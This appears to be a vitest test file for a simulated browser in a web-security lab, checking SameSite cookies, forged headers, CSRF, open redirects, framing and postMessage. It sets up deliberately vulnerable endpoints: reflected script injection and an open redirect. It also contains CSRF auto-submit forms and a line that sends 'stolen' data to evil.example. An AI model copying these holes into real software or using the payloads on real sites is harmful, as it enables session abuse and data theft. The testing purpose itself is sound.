import { beforeAll, describe, expect, it } from 'vitest';
import { buildEngine, buildProgram } from '../../testing/build-lab.ts';
import type { LabEngine, WorldEvent } from '../index.ts';
import type { Browser } from './browser.ts';

const APP = `app.get('/in', (q, r) => { for (const s of ['Strict', 'Lax', 'None']) r.cookie('c' + s, '1', { sameSite: s, secure: true }); r.append('set-cookie', 'cPlain=1; Path=/'); r.append('set-cookie', 'cHttp=1; Path=/; HttpOnly'); r.append('set-cookie', '__Host-x=1; Secure; Path=/'); r.append('set-cookie', '__Host-bad=1; Path=/'); r.append('set-cookie', 'badNone=1; SameSite=None'); r.append('set-cookie', 'short=1; Max-Age=60; Path=/'); r.append('set-cookie', 'deep=1; Path=/deep'); r.send('<p>in</p>'); });
app.all('/saw', (q, r) => { db.run('INSERT INTO seen VALUES (?, ?, ?)', q.method, JSON.stringify(q.headers), q.rawBody); r.send('<p>' + q.method + '</p>'); });
app.get('/js', (q, r) => r.send('<script>' + q.query.q + '</script>'));
app.get('/go', (q, r) => r.redirect(q.query.to + '?ticket=7'));
app.get('/frame', (q, r) => { if (q.query.xfo) r.set('x-frame-options', q.query.xfo); if (q.query.fa) r.set('content-security-policy', 'frame-ancestors ' + q.query.fa); r.send('<p id=p>framed</p>'); });`;
const seed = { sql: 'CREATE TABLE seen (method TEXT, headers TEXT, body TEXT);' };

let engine: LabEngine;
beforeAll(async () => {
  engine = await buildEngine();
});

function open(): {
  browser: Browser;
  seen(): Array<{ method: string; headers: Record<string, string>; body: string }>;
  later(ms: number): void;
} {
  const session = engine.open(engine.prepare(buildProgram(APP, seed)));
  const seen = () =>
    session.sql('SELECT * FROM seen').map((row) => ({
      method: String(row['method']),
      headers: JSON.parse(String(row['headers'])) as Record<string, string>,
      body: String(row['body']),
    }));
  return { browser: engine.browse(session), seen, later: (ms) => session.advanceClock(ms) };
}
const byText = (left = '', right = '') => (left < right ? -1 : 1);
const names = (cookie = '') =>
  cookie
    .split('; ')
    .map((pair) => pair.split('=')[0])
    .sort(byText);
const ofKind = (events: WorldEvent[], kind: string) => events.filter((event) => event.kind === kind);

describe('The cookie jar (RFC 6265bis)', () => {
  it('the cookie jar stores allowed cookies, hides HttpOnly from scripts, and expires cookies by the clock', () => {
    const { browser, later } = open();
    browser.visit('/in');
    const stored = browser
      .cookies()
      .map(({ name }) => name)
      .sort();
    expect(stored).toEqual(['__Host-x', 'cHttp', 'cLax', 'cNone', 'cPlain', 'cStrict', 'deep', 'short']);
    const { dialogs } = browser.visit(
      `/js?q=${encodeURIComponent('document.cookie = "mine=1; HttpOnly"; document.cookie = "cHttp=2"; alert(document.cookie)')}`,
    );
    expect(names(dialogs[0]?.message)).toEqual(['__Host-x', 'cLax', 'cNone', 'cPlain', 'cStrict', 'short']);
    later(61_000);
    expect(browser.cookies().map(({ name }) => name)).not.toContain('short');
  });

  const ALL = ['cHttp', 'cLax', 'cNone', 'cPlain', 'cStrict'];
  const LAX = ['cHttp', 'cLax', 'cNone', 'cPlain'];
  const NONE = ['cNone'];
  const inOwn = (code: string) => `/js?q=${encodeURIComponent(code)}`;
  it.each<[string, (browser: Browser) => unknown, string[]]>([
    ['an address that is typed', (browser) => browser.visit('/saw'), ALL],
    ['a fetch of its own page', (browser) => browser.visit(inOwn("fetch('/saw')")), ALL],
    [
      'a form of its own page',
      (browser) =>
        browser.visit(
          inOwn(
            "document.write('<form method=post action=/saw></form>');setTimeout(()=>document.forms[0].submit())",
          ),
        ),
      ALL,
    ],
    [
      'a link on a foreign page',
      (browser) => {
        browser.visitAttacker('<a href="https://app.test/saw">x</a>');
        browser.click('a');
      },
      LAX,
    ],
    [
      'a foreign form with GET',
      (browser) =>
        browser.visitAttacker(
          '<form action="https://app.test/saw"></form><script>document.forms[0].submit()</script>',
        ),
      LAX,
    ],
    [
      'a foreign form with POST',
      (browser) =>
        browser.visitAttacker(
          '<form method=post action="https://app.test/saw"></form><script>document.forms[0].submit()</script>',
        ),
      NONE,
    ],
    [
      'window.open of a foreign page',
      (browser) => browser.visitAttacker('<script>open("https://app.test/saw")</script>'),
      LAX,
    ],
    [
      'a frame in a foreign page',
      (browser) => browser.visitAttacker('<iframe src="https://app.test/saw"></iframe>'),
      NONE,
    ],
    [
      'an image of a foreign page',
      (browser) => browser.visitAttacker('<img src="https://app.test/saw">'),
      NONE,
    ],
    [
      'a fetch of a foreign page',
      (browser) =>
        browser.visitAttacker(
          '<script>fetch("https://app.test/saw", { mode: "no-cors", credentials: "include", method: "POST" })</script>',
        ),
      NONE,
    ],
    [
      'a sandboxed frame',
      (browser) =>
        browser.visit(
          inOwn(
            'document.body.innerHTML = \'<iframe sandbox=allow-scripts srcdoc="<script>fetch(`https://app.test/saw`,{credentials:`include`,mode:`no-cors`})<\\/script>"></iframe>\'',
          ),
        ),
      NONE,
    ],
    [
      'a sister host, which is the same site',
      (browser) =>
        browser.visitAttacker(
          '<form method=post action="https://app.test/saw"></form><script>document.forms[0].submit()</script>',
          { url: 'https://other.app.test/' },
        ),
      ALL,
    ],
  ])('SameSite is applied to %s', (_name, work, expected) => {
    const { browser, seen } = open();
    browser.visit('/in');
    work(browser);
    const cookies = names(seen()[0]?.headers['cookie']).filter((name) => ALL.includes(name ?? ''));
    expect(cookies).toEqual(expected);
  });
});

describe('headers that a page cannot forge', () => {
  it.each<[string, string, Record<string, string | undefined>]>([
    [
      'a form',
      '<form method=post action="https://app.test/saw"></form><script>document.forms[0].submit()</script>',
      {
        origin: 'https://evil.example',
        referer: 'https://evil.example/',
        'sec-fetch-site': 'cross-site',
        'sec-fetch-mode': 'navigate',
        'sec-fetch-dest': 'document',
      },
    ],
    [
      'a form without referrer',
      '<meta name=referrer content=no-referrer><form method=post action="https://app.test/saw"></form><script>document.forms[0].submit()</script>',
      { origin: 'null', referer: undefined },
    ],
    [
      'an image',
      '<img src="https://app.test/saw">',
      { origin: undefined, 'sec-fetch-dest': 'image', 'sec-fetch-mode': 'no-cors' },
    ],
    [
      'a fetch that tries',
      '<script>fetch("https://app.test/saw", { headers: { origin: "https://app.test", "sec-fetch-site": "same-origin", cookie: "a=1" } })</script>',
      { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site', cookie: undefined },
    ],
    [
      'a data: frame',
      '<iframe src="data:text/html,<form method=post action=https://app.test/saw></form><script>document.forms[0].submit()</script>"></iframe>',
      { origin: 'null' },
    ],
  ])('the browser sets the headers for %s', (_name, html, expected) => {
    const { browser, seen } = open();
    browser.visitAttacker(html);
    const headers = seen()[0]?.headers ?? {};
    expect(Object.fromEntries(Object.keys(expected).map((name) => [name, headers[name]]))).toEqual(expected);
  });
});

describe('A request across sites', () => {
  it('a request across sites uses the session if the app set its cookie for that', () => {
    const program = buildProgram(
      "app.get('/open', (q, r) => { sessions.open(r, 'ada', { sameSite: q.query.same }); r.send('<p>in</p>'); }); app.post('/pay', (q, r) => r.send('' + sessions.user(q)));",
    );
    const session = engine.open(engine.prepare(program));
    const lure =
      '<form method=post action="https://app.test/pay"></form><script>document.forms[0].submit()</script>';
    const userOf = (same: string) => {
      const browser = engine.browse(session);
      browser.visit(`/open?same=${same}`);
      const [event] = ofKind(browser.visitAttacker(lure).events, 'cross-site');
      return event?.kind === 'cross-site' ? event.user : 'nothing';
    };
    expect(['None', 'Lax', 'Strict'].map(userOf)).toEqual(['ada', '', '']);
  });

  it('a request across sites that changes something is an event, with the session it used', () => {
    const { browser } = open();
    browser.visit('/in');
    const { events } = browser.visitAttacker(
      '<form method=post action="https://app.test/saw"><input name=a value=b></form><script>document.forms[0].submit()</script>',
    );
    expect(ofKind(events, 'cross-site')).toEqual([
      {
        kind: 'cross-site',
        method: 'POST',
        url: '/saw',
        from: 'https://evil.example',
        user: '',
        cookies: ['cNone'],
        wrote: true,
      },
    ]);
  });

  it('a request to a foreign host is an event and is not sent', () => {
    const { browser } = open();
    const code =
      'fetch("https://evil.example/c?" + 1, { method: "POST", body: "stolen" }); new Image().src = "https://evil.example/i"; navigator.sendBeacon("https://evil.example/b", "x"); location = "https://evil.example/l"';
    const { events } = browser.visit(`/js?q=${encodeURIComponent(code)}`);
    expect(ofKind(events, 'outgoing')).toMatchObject([
      { by: 'page', method: 'POST', url: 'https://evil.example/c?1', body: 'stolen' },
      { url: 'https://evil.example/b', body: 'x' },
      { url: 'https://evil.example/i' },
      { url: 'https://evil.example/l' },
    ]);
  });
});

describe('A redirect of the app', () => {
  it.each([
    ['typed into the address bar', (browser: Browser) => browser.visit('/go?to=//evil.example/c')],
    [
      'opened by a page of the attacker',
      (browser: Browser) =>
        browser.visitAttacker('<script>location = "https://app.test/go?to=//evil.example/c"</script>'),
    ],
  ])('a redirect to another host discloses what its address contains: %s', (_name, lead) => {
    const { browser } = open();
    const { events } = lead(browser);
    const sent = { kind: 'outgoing', by: 'page', url: 'https://evil.example/c?ticket=7' };
    expect(ofKind(events, 'outgoing')).toMatchObject([sent]);
    const noted = browser.exchanges().flatMap((exchange) => exchange.events);
    expect(ofKind(noted, 'outgoing')).toMatchObject([sent]);
  });
  it('a redirect within the app discloses nothing', () => {
    const { browser } = open();
    expect(ofKind(browser.visit('/go?to=/saw').events, 'outgoing')).toEqual([]);
  });
});

describe('A frame of the app in a foreign page', () => {
  it.each([
    ['', 'framed'],
    ['xfo=DENY', 'refused'],
    ['xfo=SAMEORIGIN', 'refused'],
    ["fa='none'", 'csp'],
    ["fa='self'", 'csp'],
    ['fa=https://evil.example', 'framed'],
    ['xfo=DENY&fa=https://*.example', 'framed'],
  ])('a frame with %s is %s', (query, kind) => {
    const { browser } = open();
    const { events } = browser.visitAttacker(`<iframe src="https://app.test/frame?${query}"></iframe>`);
    expect(
      events.filter((event) => ['framed', 'refused', 'csp'].includes(event.kind)).map((event) => event.kind),
    ).toEqual([kind]);
  });
});

describe('Windows', () => {
  it('windows exchange messages, with the origin they come from', () => {
    const { browser } = open();
    const listen =
      'addEventListener("message", (e) => { alert(e.origin + " " + e.data.x); e.source.postMessage("back", e.origin) })';
    const { dialogs } = browser.visitAttacker(
      `<iframe src="https://app.test/js?q=${encodeURIComponent(listen)}"></iframe><script>onload = () => frames[0].postMessage({ x: 7 }, "*"); onmessage = (e) => alert(e.data)</script>`,
    );
    expect(dialogs.map(({ message, origin }) => `${origin} ${message}`)).toEqual([
      'https://app.test https://evil.example 7',
      'https://evil.example back',
    ]);
  });

  it('windows of another origin cannot be read', () => {
    const { browser } = open();
    const { dialogs } = browser.visitAttacker(
      '<iframe src="https://app.test/frame"></iframe><script>onload = () => { try { alert(frames[0].document.body.innerHTML) } catch (e) { alert("no") } }</script>',
    );
    expect(dialogs.map(({ message }) => message)).toEqual(['no']);
  });

  it('windows of the same origin can be read', () => {
    const { browser } = open();
    const { dialogs } = browser.visit(
      `/js?q=${encodeURIComponent('onload = () => { const f = document.createElement("iframe"); f.src = "/frame"; f.onload = () => alert(f.contentDocument.getElementById("p").textContent); document.body.append(f) }')}`,
    );
    expect(dialogs.map(({ message }) => message)).toEqual(['framed']);
  });
});
